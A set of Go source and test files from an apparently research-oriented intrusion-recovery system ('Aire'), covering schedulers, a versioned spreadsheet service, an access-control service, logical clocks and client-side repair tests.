	// scheduler's time (wall time in production, virtual time in
	// simulation) and can be nudged to fire early.
	NewPacer(interval time.Duration) Pacer
	// Yield marks a point where the simulation scheduler may switch to
	// another runnable task. In production it is a no-op; called from
	// outside any scheduled task it is a no-op everywhere.
	Yield()
	// YieldNamed is Yield with a label naming the decision point (e.g.
	// "batch-policy", "admission"). The simulation scheduler records the
	// label in its trace ("task@label"), so schedule-exploration tests can
	// assert a new decision point is actually covered; in production it is
	// a no-op like Yield.
	YieldNamed(label string)
}

// Sem is a counting semaphore.
type Sem interface {
	// Acquire takes a slot, blocking until one frees or ctx is done;
	// it reports whether the slot was acquired.
	Acquire(ctx context.Context) bool
	// Release returns a slot.
	Release()
}

// Group tracks a set of tasks (sync.WaitGroup semantics).
type Group interface {
	Add(n int)
	Done()
	Wait()
}

// Pacer paces a periodic loop: Wait blocks until the next interval tick, a
// Wake nudge, or context cancellation.
type Pacer interface {
	// Wait blocks until the pacer fires (interval elapsed or Wake called)
	// or ctx is done; it reports false on cancellation.
	Wait(ctx context.Context) bool
	// Wake nudges the pacer: the current (or next) Wait returns
	// immediately. Non-blocking, safe from any goroutine, and coalescing —
	// wakes are not counted, only latched.
	Wake()
	// Stop releases the pacer's resources (the production ticker).
	Stop()
}

// Goroutines returns the production scheduler: real goroutines and real
// time. It is stateless; the same instance is shared process-wide.
func Goroutines() Scheduler { return goSched{} }

type goSched struct{}

func (goSched) Go(name string, f func()) { go f() }

func (goSched) NewSem(n int) Sem { return goSem(make(chan struct{}, n)) }

func (goSched) NewGroup() Group { return &sync.WaitGroup{} }

func (goSched) NewPacer(interval time.Duration) Pacer {
	return &goPacer{ticker: time.NewTicker(interval), wake: make(chan struct{}, 1)}
}

func (goSched) Yield() {}

func (goSched) YieldNamed(string) {}

type goSem chan struct{}

func (s goSem) Acquire(ctx context.Context) bool {
	select {
	case s <- struct{}{}:
		return true
	case <-ctx.Done():
		return false
	}
}

func (s goSem) Release() { <-s }

type goPacer struct {
	ticker *time.Ticker
	wake   chan struct{}
}

func (p *goPacer) Wait(ctx context.Context) bool {
	select {
	case <-ctx.Done():
		return false
	case <-p.wake:
		return true
	case <-p.ticker.C:
		return true
	}
}

func (p *goPacer) Wake() {
	select {
	case p.wake <- struct{}{}:
	default:
	}
}

func (p *goPacer) Stop() { p.ticker.Stop() }
