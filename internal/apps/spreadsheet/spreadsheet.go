// Package spreadsheet implements the shared spreadsheet service the paper
// built for its lax-permission and data-synchronization scenarios (§7.1,
// Figure 5), including the branching versioned-cell API of §5.2/Figure 3.
//
// A spreadsheet holds named cells. Every cell write creates an immutable
// version object (an AppVersionedModel) and moves the cell's mutable
// "current" pointer — so repair never erases history: re-execution creates
// fresh versions on a new branch and swings the pointer, exactly the
// git-like model of Figure 3.
//
// A simple scripting capability (the paper's Google-Apps-Script stand-in)
// reacts to cell changes: "distribute" scripts push ACL cells to other
// services' access-control lists, and "sync" scripts copy cell values to a
// peer spreadsheet. Services authenticate to each other with per-user
// tokens that can expire — the §7.2 partial-repair-by-authorization
// experiment.
package spreadsheet

import (
	"fmt"
	"strings"

	"aire/internal/core"
	"aire/internal/orm"
	"aire/internal/warp"
	"aire/internal/web"
	"aire/internal/wire"
)

// Model names.
const (
	// ModelCellPtr maps a cell name to its current version (mutable).
	ModelCellPtr = "cellptr"
	// ModelCellVer holds immutable cell versions (AppVersionedModel):
	// fields cell, value, parent, author.
	ModelCellVer = "cellver"
	// ModelACL maps a user to permission string ("r", "rw", "rwa").
	ModelACL = "acl"
	// ModelToken maps a user to the service-to-service token accepted on
	// their behalf: fields value, expired.
	ModelToken = "token"
	// ModelScript holds change-triggered scripts: fields trigger (cell
	// prefix), action ("distribute" or "sync"), target (service), owner,
	// token (credential presented to the target).
	ModelScript = "script"
	// ModelConfig holds service options (e.g. world_writable).
	ModelConfig = "config"
)

// App is one spreadsheet service.
type App struct {
	// ServiceName is the transport identity.
	ServiceName string
	// BootstrapToken guards the seeding endpoints.
	BootstrapToken string
}

// New returns a spreadsheet service with the given name.
func New(name, bootstrapToken string) *App {
	return &App{ServiceName: name, BootstrapToken: bootstrapToken}
}

// Name implements core.App.
func (a *App) Name() string { return a.ServiceName }

// Register installs models and routes.
func (a *App) Register(svc *web.Service) {
	svc.Schema.Register(ModelCellPtr)
	svc.Schema.RegisterVersioned(ModelCellVer)
	svc.Schema.Register(ModelACL)
	svc.Schema.Register(ModelToken)
	svc.Schema.Register(ModelScript)
	svc.Schema.Register(ModelConfig)

	svc.Router.Handle("POST", "/set", a.handleSet)

	// GET /get returns the current value of a cell.
	svc.Router.Handle("GET", "/get", func(c *web.Ctx) wire.Response {
		val, ok := a.currentValue(c, c.Form("cell"))
		if !ok {
			return c.Error(404, "no such cell")
		}
		return c.OK(val)
	})

	// GET /versions implements the versions(x) call of Figure 3: every
	// immutable version of the cell created before the request's logical
	// execution time — on any branch, since branching preserves the history
	// of mistakes and attacks (§5.2) — plus the mutable current pointer.
	// Reading the pointer is what makes the request repairable: when repair
	// moves the branch, the response is recomputed and contains the
	// repaired branch's versions (the paper's {v1,v2,v3,v5} example).
	svc.Router.Handle("GET", "/versions", func(c *web.Ctx) wire.Response {
		cell := c.Form("cell")
		ptr, ok := c.DB.Get(ModelCellPtr, cell)
		if !ok {
			return c.Error(404, "no such cell")
		}
		var b strings.Builder
		fmt.Fprintf(&b, "current=%s\n", ptr.Get("current"))
		for _, v := range c.DB.Select(ModelCellVer, func(o orm.Obj) bool {
			return o.Get("cell") == cell
		}) {
			fmt.Fprintf(&b, "%s=%s\n", v.ID, v.Get("value"))
		}
		return c.OK(b.String())
	})

	// GET /branch lists the current branch's chain oldest-first, walking
	// parent pointers from the current version.
	svc.Router.Handle("GET", "/branch", func(c *web.Ctx) wire.Response {
		ptr, ok := c.DB.Get(ModelCellPtr, c.Form("cell"))
		if !ok {
			return c.Error(404, "no such cell")
		}
		var chain []orm.Obj
		for vid := ptr.Get("current"); vid != ""; {
			v, ok := c.DB.Get(ModelCellVer, vid)
			if !ok {
				break
			}
			chain = append(chain, v)
			vid = v.Get("parent")
		}
		var b strings.Builder
		for i := len(chain) - 1; i >= 0; i-- {
			fmt.Fprintf(&b, "%s=%s\n", chain[i].ID, chain[i].Get("value"))
		}
		return c.OK(b.String())
	})

	// POST /acl/update sets a user's permissions; callers must present a
	// valid token for an admin-capable principal (the directory's
	// distribution script, or a human administrator).
	svc.Router.Handle("POST", "/acl/update", func(c *web.Ctx) wire.Response {
		as := c.Form("as")
		if !a.tokenValid(c, as) {
			return c.Error(403, "invalid or expired token for "+as)
		}
		if acl, ok := c.DB.Get(ModelACL, as); !ok || !strings.Contains(acl.Get("perms"), "a") {
			return c.Error(403, as+" lacks admin permission")
		}
		user, perms := c.Form("user"), c.Form("perms")
		if user == "" {
			return c.Error(400, "user required")
		}
		var err error
		if perms == "" {
			// Empty permissions remove the entry.
			if _, ok := c.DB.Get(ModelACL, user); ok {
				err = c.DB.Delete(ModelACL, user)
			}
		} else {
			err = c.DB.Put(ModelACL, user, orm.Fields("perms", perms))
		}
		if err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("acl " + user + "=" + perms)
	})

	// GET /acl reads a user's permissions.
	svc.Router.Handle("GET", "/acl", func(c *web.Ctx) wire.Response {
		o, ok := c.DB.Get(ModelACL, c.Form("user"))
		if !ok {
			return c.Error(404, "no acl entry")
		}
		return c.OK(o.Get("perms"))
	})

	a.registerSeeding(svc)
}

// handleSet writes a cell: ACL check, immutable version creation, pointer
// move, then change-triggered scripts.
func (a *App) handleSet(c *web.Ctx) wire.Response {
	cell, value, user := c.Form("cell"), c.Form("value"), c.Form("user")
	if cell == "" || user == "" {
		return c.Error(400, "cell and user required")
	}
	if !a.tokenValid(c, user) {
		return c.Error(403, "invalid or expired token for "+user)
	}
	worldWritable := false
	if cfg, ok := c.DB.Get(ModelConfig, "world_writable"); ok && cfg.Get("value") == "true" {
		worldWritable = true
	}
	if !worldWritable {
		acl, ok := c.DB.Get(ModelACL, user)
		if !ok || !strings.Contains(acl.Get("perms"), "w") {
			return c.Error(403, user+" lacks write permission")
		}
	}

	parent := ""
	if ptr, ok := c.DB.Get(ModelCellPtr, cell); ok {
		parent = ptr.Get("current")
	}
	vid := "v-" + c.NewVersionID()
	if err := c.DB.Put(ModelCellVer, vid, orm.Fields(
		"cell", cell, "value", value, "parent", parent, "author", user)); err != nil {
		return c.Error(500, err.Error())
	}
	if err := c.DB.Put(ModelCellPtr, cell, orm.Fields("current", vid)); err != nil {
		return c.Error(500, err.Error())
	}

	a.runScripts(c, cell, value, user)
	return c.OK(vid)
}

// runScripts fires every script whose trigger prefix matches the changed
// cell.
func (a *App) runScripts(c *web.Ctx, cell, value, user string) {
	for _, s := range c.DB.List(ModelScript) {
		if !strings.HasPrefix(cell, s.Get("trigger")) {
			continue
		}
		switch s.Get("action") {
		case "distribute":
			// Cells named "acl:<service>:<user>" hold the master ACL; a
			// change distributes the permission to the named service
			// (Figure 5).
			parts := strings.SplitN(cell, ":", 3)
			if len(parts) != 3 || parts[1] != s.Get("target") {
				continue
			}
			c.Call(s.Get("target"), wire.NewRequest("POST", "/acl/update").
				WithForm("user", parts[2], "perms", value, "as", s.Get("owner")).
				WithHeader("X-User-Token", s.Get("token")))
		case "sync":
			// Copy the changed cell to the same cell on the target service
			// (the data-synchronization scenario).
			c.Call(s.Get("target"), wire.NewRequest("POST", "/set").
				WithForm("cell", cell, "value", value, "user", s.Get("owner")).
				WithHeader("X-User-Token", s.Get("token")))
		}
	}
}

// currentValue resolves a cell through its pointer and version object.
func (a *App) currentValue(c *web.Ctx, cell string) (string, bool) {
	ptr, ok := c.DB.Get(ModelCellPtr, cell)
	if !ok {
		return "", false
	}
	v, ok := c.DB.Get(ModelCellVer, ptr.Get("current"))
	if !ok {
		return "", false
	}
	return v.Get("value"), true
}

// tokenValid checks the caller-presented token for the acting user against
// the service's token table (valid and unexpired, checked at the request's
// execution time).
func (a *App) tokenValid(c *web.Ctx, user string) bool {
	tok, ok := c.DB.Get(ModelToken, user)
	if !ok {
		return false
	}
	return tok.Get("value") == c.Header("X-User-Token") && tok.Get("expired") != "true"
}

// registerSeeding installs bootstrap endpoints used to stand a testbed up;
// they are ordinary logged requests guarded by the bootstrap token.
func (a *App) registerSeeding(svc *web.Service) {
	guard := func(h web.Handler) web.Handler {
		return func(c *web.Ctx) wire.Response {
			if c.Header("X-Bootstrap") != a.BootstrapToken {
				return c.Error(403, "bootstrap token required")
			}
			return h(c)
		}
	}
	svc.Router.Handle("POST", "/seed/acl", guard(func(c *web.Ctx) wire.Response {
		if err := c.DB.Put(ModelACL, c.Form("user"), orm.Fields("perms", c.Form("perms"))); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("ok")
	}))
	svc.Router.Handle("POST", "/seed/token", guard(func(c *web.Ctx) wire.Response {
		if err := c.DB.Put(ModelToken, c.Form("user"), orm.Fields(
			"value", c.Form("value"), "expired", "false")); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("ok")
	}))
	svc.Router.Handle("POST", "/seed/script", guard(func(c *web.Ctx) wire.Response {
		if err := c.DB.Put(ModelScript, c.Form("id"), orm.Fields(
			"trigger", c.Form("trigger"), "action", c.Form("action"),
			"target", c.Form("target"), "owner", c.Form("owner"), "token", c.Form("token"))); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("ok")
	}))
	svc.Router.Handle("POST", "/seed/config", guard(func(c *web.Ctx) wire.Response {
		if err := c.DB.Put(ModelConfig, c.Form("key"), orm.Fields("value", c.Form("value"))); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("ok")
	}))
	// Token lifecycle hooks for the §7.2 credential-expiry experiment.
	svc.Router.Handle("POST", "/token/expire", guard(func(c *web.Ctx) wire.Response {
		if _, err := c.DB.Update(ModelToken, c.Form("user"), func(f map[string]string) {
			f["expired"] = "true"
		}); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("expired")
	}))
	svc.Router.Handle("POST", "/token/refresh", guard(func(c *web.Ctx) wire.Response {
		if _, err := c.DB.Update(ModelToken, c.Form("user"), func(f map[string]string) {
			f["expired"] = "false"
			if v := c.Form("value"); v != "" {
				f["value"] = v
			}
		}); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("refreshed")
	}))
}

// Authorize implements the paper's spreadsheet policy (§7.2): "repair of a
// past request only if the repair message has a valid token for the same
// user on whose behalf the request was originally issued". Token validity
// is checked against the *current* state — an expired token makes the
// service reject repair until the user refreshes it.
func (a *App) Authorize(ac core.AuthzRequest) bool {
	if ac.Kind == warp.OutReplaceResponse {
		return true
	}
	orig := ac.Original
	if ac.Kind == warp.OutCreate {
		orig = ac.Repaired
	}
	if ac.Carrier.Header["X-Bootstrap"] == a.BootstrapToken {
		return true // local administrator
	}
	// The acting principal: "as" for ACL updates, "user" for cell writes.
	user := orig.Form["as"]
	if user == "" {
		user = orig.Form["user"]
	}
	if user == "" {
		return false
	}
	presented := ac.Carrier.Header["X-User-Token"]
	if presented == "" {
		presented = ac.Repaired.Header["X-User-Token"]
	}
	tok, ok := ac.Now.Get(ModelToken, user)
	if !ok {
		return false
	}
	return tok.Get("value") == presented && tok.Get("expired") != "true"
}
