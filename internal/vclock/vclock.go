// Package vclock provides the per-service logical timeline on which Aire
// orders requests.
//
// Services do not share a global clock (§3.1), so each service orders its
// own requests on a private logical timeline. Timestamps are spaced by a
// large stride so that a repair `create` operation — which must execute a
// new request "in the past", between two existing requests named by
// before_id and after_id — can claim a fresh timestamp strictly between two
// existing ones by midpoint insertion.
package vclock

import (
	"errors"
	"sync"
)

// Stride is the gap between consecutive normally-allocated timestamps.
// With 2^20 between requests, a given interval supports 20 generations of
// midpoint insertion before exhaustion, far beyond what repair produces in
// practice (repairs between the same pair of requests are collapsed, §3.2).
const Stride = 1 << 20

// ErrExhausted is returned by Between when no integer timestamp remains
// strictly between the two bounds.
var ErrExhausted = errors.New("vclock: no timestamp available between bounds")

// Clock allocates monotonically increasing logical timestamps.
// The zero value is ready to use and starts at Stride. Clock is safe for
// concurrent use.
type Clock struct {
	mu   sync.Mutex
	last int64
}

// Next returns a fresh timestamp later than every previously returned one.
func (c *Clock) Next() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.last += Stride
	return c.last
}

// Observe tells the clock that timestamp ts exists (e.g. loaded from a log);
// subsequent Next calls will return values after it.
func (c *Clock) Observe(ts int64) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if ts > c.last {
		c.last = ts
	}
}

// Now returns the most recently allocated timestamp without advancing.
func (c *Clock) Now() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.last
}

// Between returns a timestamp strictly inside (before, after). It is used to
// place a created request between its before_id and after_id anchors (§3.1).
// Pass after = 0 to mean "after the end of the timeline", in which case a
// fresh Next value is returned.
func (c *Clock) Between(before, after int64) (int64, error) {
	if after == 0 {
		c.mu.Lock()
		defer c.mu.Unlock()
		if before >= c.last {
			c.last = before + Stride
			return c.last, nil
		}
		// Insert after `before` but before the next existing timestamp is
		// unknown here; fall back to midpoint toward last+Stride.
		c.last += Stride
		return c.last, nil
	}
	if after-before < 2 {
		return 0, ErrExhausted
	}
	return before + (after-before)/2, nil
}
