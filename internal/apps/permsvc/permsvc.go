// Package permsvc implements the centralized access-control web service of
// the paper's introduction (§1): "a small company ... uses a centralized
// access control web service to manage permissions across all of its
// services."
//
// Unlike the spreadsheet scenario's push-based ACL distribution (Figure 5),
// dependent services *pull*: they call /check on every guarded operation.
// That puts the permission decision in this service's *responses*, so
// repairing a bad grant here propagates to dependents as replace_response
// messages — the other half of Aire's repair protocol.
package permsvc

import (
	"fmt"

	"aire/internal/core"
	"aire/internal/orm"
	"aire/internal/warp"
	"aire/internal/web"
	"aire/internal/wire"
)

// ModelGrant maps "service|user" to an access level: fields level ("r",
// "rw"), granted_by.
const ModelGrant = "grant"

// App is the access-control service.
type App struct {
	// ServiceName is the transport identity (default "perms").
	ServiceName string
	// AdminToken authorizes grant changes and their repair.
	AdminToken string
}

// New returns an access-control service.
func New(adminToken string) *App {
	return &App{ServiceName: "perms", AdminToken: adminToken}
}

// Name implements core.App.
func (a *App) Name() string { return a.ServiceName }

func grantID(svc, user string) string { return svc + "|" + user }

// Register installs models and routes.
func (a *App) Register(svc *web.Service) {
	svc.Schema.Register(ModelGrant)

	// POST /grant sets a user's level on a dependent service (admin only).
	// Level "" revokes.
	svc.Router.Handle("POST", "/grant", func(c *web.Ctx) wire.Response {
		if c.Header("X-Admin-Token") != a.AdminToken {
			return c.Error(403, "admin token required")
		}
		target, user, level := c.Form("svc"), c.Form("user"), c.Form("level")
		if target == "" || user == "" {
			return c.Error(400, "svc and user required")
		}
		id := grantID(target, user)
		var err error
		if level == "" {
			if _, ok := c.DB.Get(ModelGrant, id); ok {
				err = c.DB.Delete(ModelGrant, id)
			}
		} else {
			err = c.DB.Put(ModelGrant, id, orm.Fields("level", level, "granted_by", "admin"))
		}
		if err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK(fmt.Sprintf("grant %s=%s", id, level))
	})

	// GET /check returns a user's level on a service ("" if none). This is
	// the per-operation pull dependents make; its responses are what repair
	// corrects.
	svc.Router.Handle("GET", "/check", func(c *web.Ctx) wire.Response {
		g, ok := c.DB.Get(ModelGrant, grantID(c.Form("svc"), c.Form("user")))
		if !ok {
			return c.OK("")
		}
		return c.OK(g.Get("level"))
	})

	// GET /grants lists all grants for auditing.
	svc.Router.Handle("GET", "/grants", func(c *web.Ctx) wire.Response {
		out := ""
		for _, g := range c.DB.List(ModelGrant) {
			out += g.ID + "=" + g.Get("level") + "\n"
		}
		return c.OK(out)
	})
}

// Authorize allows repair of grant operations only with the admin token;
// checks are read-only and may be repaired by the service that issued them.
func (a *App) Authorize(ac core.AuthzRequest) bool {
	if ac.Kind == warp.OutReplaceResponse {
		return true
	}
	if ac.OriginalFrom != "" && ac.From == ac.OriginalFrom {
		return true
	}
	return ac.Carrier.Header["X-Admin-Token"] == a.AdminToken
}
