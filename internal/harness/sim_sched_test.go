package harness

import (
	"fmt"
	"reflect"
	"testing"
)

// Tests for the deterministic-scheduler simulation mode
// (SimConfig.ScheduledPump): the attacked world's repair delivery runs on
// the real background pump, with pump loops, delivery workers, and the
// workload multiplexed as cooperative tasks of internal/dsched. CI runs
// the full 20-seed × profile matrix via `go run ./cmd/airesim -sched`
// (the `sched` job); these tests keep a shorter matrix plus the
// determinism and regression-discovery properties in `go test`.

// runSchedSeed runs one scheduled-pump simulation, failing with a
// reproduction command naming the seed.
func runSchedSeed(t *testing.T, profile string, seed int64) *SimResult {
	t.Helper()
	cfg, err := SimProfileConfig(profile)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Seed = seed
	cfg.ScheduledPump = true
	res, err := RunSim(cfg)
	if err != nil {
		t.Fatalf("seed %d: harness error (reproduce: go run ./cmd/airesim -sched -profile %s -seeds %d -v): %v", seed, profile, seed, err)
	}
	if !res.Passed {
		t.Errorf("seed %d failed the convergence oracle under the scheduled pump (reproduce: go run ./cmd/airesim -sched -profile %s -seeds %d -v):\n  faults=%v rounds=%d steps=%d\n  %v",
			seed, profile, seed, res.FaultCounts, res.Rounds, res.SchedSteps, res.Failures)
	}
	return res
}

// TestSchedSimSeeds: every fault profile converges under randomly
// interleaved pump workers, for a batch of fixed seeds. The same golden
// -world oracle as the serial matrix — only the delivery concurrency
// changed.
func TestSchedSimSeeds(t *testing.T) {
	for _, profile := range SimProfileNames() {
		profile := profile
		t.Run(profile, func(t *testing.T) {
			steps := 0
			for seed := int64(1); seed <= 4; seed++ {
				res := runSchedSeed(t, profile, seed)
				res.SchedTrace, res.Trace = nil, nil // keep failure output readable
				steps += res.SchedSteps
			}
			// A profile whose runs take no scheduling steps is not
			// actually exercising the pump tasks.
			if steps == 0 {
				t.Errorf("profile %s executed no scheduler steps across its seeds", profile)
			}
		})
	}
}

// TestSchedDeterminism: under the scheduled pump a run is a pure function
// of its seed — two runs must agree on the task schedule (every scheduling
// decision, step for step), the fault schedule, and the final StateDigest,
// or a found schedule could not be replayed.
func TestSchedDeterminism(t *testing.T) {
	cfg, err := SimProfileConfig("mixed")
	if err != nil {
		t.Fatal(err)
	}
	cfg.Seed = 42
	cfg.ScheduledPump = true
	r1, err1 := RunSim(cfg)
	r2, err2 := RunSim(cfg)
	if err1 != nil || err2 != nil {
		t.Fatalf("seed 42: %v / %v", err1, err2)
	}
	if r1.StateDigest != r2.StateDigest {
		t.Fatalf("same seed, different StateDigest: %x vs %x", r1.StateDigest, r2.StateDigest)
	}
	if !reflect.DeepEqual(r1.SchedTrace, r2.SchedTrace) {
		t.Fatalf("same seed, different task schedules (%d vs %d steps)", r1.SchedSteps, r2.SchedSteps)
	}
	if !reflect.DeepEqual(r1, r2) {
		r1.SchedTrace, r2.SchedTrace, r1.Trace, r2.Trace = nil, nil, nil, nil
		t.Fatalf("same seed produced different runs:\n%+v\n%+v", r1, r2)
	}
	if r1.SchedSteps == 0 || len(r1.Trace) == 0 {
		t.Fatalf("steps=%d faults=%d: determinism check is vacuous", r1.SchedSteps, len(r1.Trace))
	}
}

// TestSchedExploresSchedules: distinct seeds explore distinct task
// interleavings — the point of the scheduler. (Identical traces across
// seeds would mean the rng is not actually driving the schedule.)
func TestSchedExploresSchedules(t *testing.T) {
	cfg, err := SimProfileConfig("drop")
	if err != nil {
		t.Fatal(err)
	}
	distinct := map[string]bool{}
	for seed := int64(1); seed <= 5; seed++ {
		c := cfg
		c.Seed = seed
		c.ScheduledPump = true
		res, err := RunSim(c)
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		distinct[fmt.Sprint(res.SchedTrace)] = true
	}
	if len(distinct) < 2 {
		t.Fatalf("5 seeds produced only %d distinct schedules", len(distinct))
	}
}

// genRaceConfig is the workload that exposes the historical (pre-PR-1)
// ungated-reconcile race: repair-of-repair traffic keeps superseding
// messages that may be mid-flight, so a reconcile that ignores the claimed
// generation drops the newer repair as delivered.
func genRaceConfig(seed int64) SimConfig {
	return SimConfig{Services: 3, Topology: "chain", Repairs: 5, Rerepairs: 4,
		Seed: seed, ScheduledPump: true, faultUngatedReconcile: true}
}

// TestSchedFindsGenReconcileRace: the deterministic scheduler rediscovers
// the PR-1 Held/Attempts/generation reconcile race when the fix is
// disabled (Config.FaultUngatedReconcile), on a fixed seed, within a
// bounded number of steps — and the failing schedule replays exactly. The
// serial Flush-driven simulator can never observe this bug (claim,
// deliver, and reconcile are atomic with respect to the workload there),
// which is precisely the fault class ScheduledPump exists to cover.
func TestSchedFindsGenReconcileRace(t *testing.T) {
	const seed = 1        // fixed: this seed's schedule interleaves a supersede into a claim window
	const maxSteps = 5000 // "within N steps": the discovery budget
	cfg := genRaceConfig(seed)
	res, err := RunSim(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if res.Passed {
		t.Fatalf("seed %d no longer exposes the ungated-reconcile race under the scheduled pump", seed)
	}
	if res.SchedSteps > maxSteps {
		t.Fatalf("race found but took %d steps (budget %d)", res.SchedSteps, maxSteps)
	}
	t.Logf("historical race found on seed %d within %d scheduler steps: %v", seed, res.SchedSteps, res.Failures[0])

	// The identical schedule replays the bug verbatim.
	again, err := RunSim(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(res, again) {
		t.Fatal("failing schedule did not replay identically")
	}

	// With the generation gate back in place the same seed converges: the
	// divergence above was the injected race, nothing else.
	fixed := genRaceConfig(seed)
	fixed.faultUngatedReconcile = false
	resFixed, err := RunSim(fixed)
	if err != nil {
		t.Fatal(err)
	}
	if !resFixed.Passed {
		t.Fatalf("seed %d fails even with the generation gate: %v", seed, resFixed.Failures)
	}

	// The serial simulator is blind to the bug: same fault injected, same
	// seeds, no divergence — Flush never lets a supersede interleave with
	// an in-flight delivery.
	for s := int64(1); s <= 5; s++ {
		serial := genRaceConfig(s)
		serial.ScheduledPump = false
		res, err := RunSim(serial)
		if err != nil {
			t.Fatalf("serial seed %d: %v", s, err)
		}
		if !res.Passed {
			t.Fatalf("serial seed %d unexpectedly observed the race (Flush should be atomic against the workload): %v", s, res.Failures)
		}
	}
}
