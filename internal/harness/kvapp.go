package harness

import (
	"time"

	"aire/internal/core"
	"aire/internal/orm"
	"aire/internal/web"
	"aire/internal/wire"
)

// KVApp is a minimal mirroring key-value service used by benchmarks and
// demos: POST /put writes a key (and forwards it to every mirror peer),
// GET /get reads one key, GET /sum scans all keys.
type KVApp struct {
	// ServiceName is the transport identity.
	ServiceName string
	// Mirror, when set, receives a copy of every write.
	Mirror string
	// Mirrors also receive a copy of every write (the fan-out topology:
	// one hub propagating to N peers).
	Mirrors []string
	// PutDelay models blocking backend work (a database round trip) per
	// write, spent inside the handler — i.e. while the service lock is
	// held, like the real services the paper instruments. Benchmarks use
	// it to make per-service serialization visible on hosts whose CPU
	// count would otherwise hide it.
	PutDelay time.Duration
}

// mirrors returns every peer that receives write copies.
func (a *KVApp) mirrors() []string {
	if a.Mirror == "" {
		return a.Mirrors
	}
	return append([]string{a.Mirror}, a.Mirrors...)
}

// Name implements core.App.
func (a *KVApp) Name() string { return a.ServiceName }

// Authorize allows any repair: the benchmarks exercise mechanism, not
// policy.
func (a *KVApp) Authorize(ac core.AuthzRequest) bool { return true }

// Register implements core.App.
func (a *KVApp) Register(svc *web.Service) {
	svc.Schema.Register("kv")
	svc.Router.Handle("POST", "/put", func(c *web.Ctx) wire.Response {
		if a.PutDelay > 0 {
			time.Sleep(a.PutDelay)
		}
		if err := c.DB.Put("kv", c.Form("key"), orm.Fields("val", c.Form("val"))); err != nil {
			return c.Error(500, err.Error())
		}
		for _, m := range a.mirrors() {
			c.Call(m, wire.NewRequest("POST", "/put").
				WithForm("key", c.Form("key"), "val", c.Form("val")))
		}
		return c.OK("ok")
	})
	svc.Router.Handle("GET", "/get", func(c *web.Ctx) wire.Response {
		o, ok := c.DB.Get("kv", c.Form("key"))
		if !ok {
			return c.Error(404, "missing")
		}
		return c.OK(o.Get("val"))
	})
	svc.Router.Handle("GET", "/sum", func(c *web.Ctx) wire.Response {
		out := ""
		for _, o := range c.DB.List("kv") {
			out += o.ID + "=" + o.Get("val") + ";"
		}
		return c.OK(out)
	})
}
