package client

import (
	"testing"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/warp"
	"aire/internal/wire"
)

func newWorld(t *testing.T) (*harness.Testbed, *core.Controller) {
	t.Helper()
	tb := harness.NewTestbed()
	store := tb.Add(&harness.KVApp{ServiceName: "store"}, core.DefaultConfig())
	return tb, store
}

func TestClientRecordsIdentifiers(t *testing.T) {
	tb, _ := newWorld(t)
	cl := New("browser-1", tb.Bus)
	resp, err := cl.Call("store", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "a"))
	if err != nil || !resp.OK() {
		t.Fatalf("call: %v %+v", err, resp)
	}
	h := cl.History()
	if len(h) != 1 || h[0].ReqID == "" || h[0].RespID == "" {
		t.Fatalf("history = %+v", h)
	}
	if h[0].ReqID != resp.Header[wire.HdrRequestID] {
		t.Fatal("client did not record the server-assigned request ID")
	}
}

// TestClientReceivesResponseRepairByPolling is the browser-shaped version
// of Figure 2: the client's stale read is corrected through the poll
// mailbox after the server repairs the attack.
func TestClientReceivesResponseRepairByPolling(t *testing.T) {
	tb, store := newWorld(t)

	var repaired []string
	cl := New("browser-1", tb.Bus)
	cl.OnRepair = func(old Sent, newResp wire.Response) {
		repaired = append(repaired, string(old.Resp.Body)+"->"+string(newResp.Body))
	}

	tb.MustCall("store", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "a"))
	atk := tb.MustCall("store", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "b"))

	// The client reads through its Aire-aware library.
	read, err := cl.Call("store", wire.NewRequest("GET", "/get").WithForm("key", "x"))
	if err != nil || string(read.Body) != "b" {
		t.Fatalf("read: %v %q", err, read.Body)
	}

	// Server-side repair; the replace_response lands in the mailbox.
	if _, err := store.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: atk.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	store.Flush()

	n, err := cl.Poll("store")
	if err != nil {
		t.Fatal(err)
	}
	if n != 1 {
		t.Fatalf("polled %d repairs, want 1", n)
	}
	if len(repaired) != 1 || repaired[0] != "b->a" {
		t.Fatalf("repair callback = %v", repaired)
	}
	h := cl.History()
	if string(h[len(h)-1].Resp.Body) != "a" {
		t.Fatalf("history not updated: %q", h[len(h)-1].Resp.Body)
	}
	// Second poll: mailbox empty.
	if n, _ := cl.Poll("store"); n != 0 {
		t.Fatalf("second poll returned %d", n)
	}
}

func TestClientInitiatedRepair(t *testing.T) {
	tb, _ := newWorld(t)
	cl := New("browser-2", tb.Bus)

	resp, err := cl.Call("store", wire.NewRequest("POST", "/put").WithForm("key", "note", "val", "tpyo"))
	if err != nil || !resp.OK() {
		t.Fatalf("call: %v", err)
	}
	sent := cl.History()[0]

	// Fix the typo with a client-initiated replace.
	if r, err := cl.RepairReplace(sent, wire.NewRequest("POST", "/put").WithForm("key", "note", "val", "typo fixed"), nil); err != nil || !r.OK() {
		t.Fatalf("replace: %v %+v", err, r)
	}
	if got := string(tb.Call("store", wire.NewRequest("GET", "/get").WithForm("key", "note")).Body); got != "typo fixed" {
		t.Fatalf("note = %q", got)
	}

	// Then undo it entirely.
	if r, err := cl.RepairDelete(sent, nil); err != nil || !r.OK() {
		t.Fatalf("delete: %v %+v", err, r)
	}
	if resp := tb.Call("store", wire.NewRequest("GET", "/get").WithForm("key", "note")); resp.Status != 404 {
		t.Fatalf("note should be gone: %d", resp.Status)
	}
}

func TestMailboxTokenIsSingleUse(t *testing.T) {
	tb, store := newWorld(t)
